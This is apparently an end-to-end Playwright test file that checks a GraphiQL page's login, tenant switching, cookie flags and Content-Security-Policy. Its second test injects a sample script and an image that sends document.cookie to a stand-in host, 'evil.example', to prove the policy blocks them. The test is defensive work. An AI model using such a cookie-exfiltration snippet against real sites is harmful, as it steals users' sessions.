"""A newcomer's first minute in GraphiQL, in a real browser, against the whole product."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import TypedDict, cast
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, ConsoleMessage, Page, Request, WebSocket, expect

from tests.end_to_end.client import Client
from tests.stack import Stack

SECONDS = 1000  # Playwright counts in milliseconds
WATCH_POLICY = """
window.violations = [];
addEventListener("securitypolicyviolation", (event) =>
  violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


class Frame(TypedDict, total=False):
    type: str
    payload: dict[str, dict[str, dict[str, object]]]


class Visit:
    """One page of GraphiQL, with what it complained of, whom else it called and what came over its sockets."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.complaints: list[str] = []
        self.strangers: list[str] = []
        self.frames: list[Frame] = []
        self._host = urlsplit(url).netloc
        page.on("console", self._on_console)
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("request", self._on_request)
        page.on("websocket", self._on_websocket)

    async def run(self, tab: str) -> None:
        await self.page.get_by_role("tab", name=tab).click()
        await expect(self.page.locator(".graphiql-query-editor")).to_contain_text(tab)
        await self.page.get_by_role("button", name=re.compile("Execute query")).click()

    async def expect_answer(self, *texts: str) -> None:
        """Monaco shows the lines that fit into its window, so the texts stand near the top of the answer."""
        for text in texts:
            await expect(self.page.locator(".result-window")).to_contain_text(text, timeout=15 * SECONDS)

    def _on_console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.complaints.append(message.text)

    def _on_request(self, request: Request) -> None:
        if urlsplit(request.url).netloc not in {self._host, ""}:
            self.strangers.append(request.url)

    def _on_websocket(self, socket: WebSocket) -> None:
        socket.on("framereceived", lambda data: self.frames.append(cast(Frame, json.loads(data))))


@pytest.mark.usefixtures("explorer")
async def test_graphiql_logs_in_queries_switches_tenant_and_follows_the_switch_to_its_end(
    browser: Browser, dev_stack: Stack, artifacts: Path
) -> None:
    ada = Client(dev_stack)
    await ada.log_in("ada@example.com")
    await ada.work_in("Acme")
    page = await browser.new_page(viewport={"width": 1440, "height": 1000})
    visit = Visit(page, dev_stack.url)
    await page.add_init_script(WATCH_POLICY)
    opened = await page.goto(f"{dev_stack.url}/graphiql")
    assert opened is not None
    assert "script-src 'self';" in opened.headers["content-security-policy"]
    await expect(page.get_by_role("tab")).to_contain_text(["LogIn", "Dashboard", "SwitchTenant", "FollowOperation"])
    await expect(page.locator(".graphiql-editor-tool")).to_contain_text("ada@example.com")

    await visit.run("LogIn")
    await visit.expect_answer('"status": "COMPLETED"', '"name": "verify_credentials"')
    await page.screenshot(path=artifacts / "graphiql-log-in.png")
    cookies = await page.context.cookies()
    assert {cookie["name"] for cookie in cookies} == {"adx_session", "adx_device"}
    assert all(cookie["httpOnly"] and cookie["sameSite"] in {"Lax", "Strict"} for cookie in cookies)

    await visit.run("Dashboard")
    await visit.expect_answer('"email": "ada@example.com"', '"tenant": { "name": "Acme"')
    await page.screenshot(path=artifacts / "graphiql-dashboard.png")

    await visit.run("SwitchTenant")
    await visit.expect_answer('"sessionToken"', '"status": ', '"name": "Globex"')

    await visit.run("FollowOperation")
    await visit.expect_answer('"kind": "TENANT_SWITCH"', '"status": "COMPLETED"')
    await expect(page.get_by_role("button", name=re.compile("Execute query"))).to_be_visible()
    await page.screenshot(path=artifacts / "graphiql-follow.png")
    assert [frame["type"] for frame in (visit.frames[0], visit.frames[-1])] == ["connection_ack", "complete"]
    final = visit.frames[-2]["payload"]["data"]["operation"]
    assert final["status"] == "COMPLETED"
    traces = [
        number for number, frame in enumerate(visit.frames) if "trace" in frame.get("payload", {}).get("extensions", {})
    ]
    assert traces == [1]  # GraphiQL requests it, and the first result of a subscription has it

    await visit.run("Dashboard")
    await visit.expect_answer('"tenant": { "name": "Globex"')
    assert await page.evaluate("violations") == []
    assert visit.complaints == []
    assert visit.strangers == []


async def test_the_policy_stops_what_a_page_would_be_made_to_run(browser: Browser, dev_stack: Stack) -> None:
    """That none is told of above proves nothing unless one would be."""
    page = await browser.new_page()
    await page.add_init_script(WATCH_POLICY)
    await page.goto(f"{dev_stack.url}/graphiql")
    await page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.stolen = true";
        document.body.append(script);
        const stranger = document.createElement("img");
        stranger.src = "https://evil.example/?" + document.cookie;
        document.body.append(stranger);
    }""")
    await page.wait_for_function("violations.length >= 2")
    assert {each.split()[0] for each in await page.evaluate("violations")} == {"script-src-elem", "img-src"}
    assert await page.evaluate("window.stolen") is None
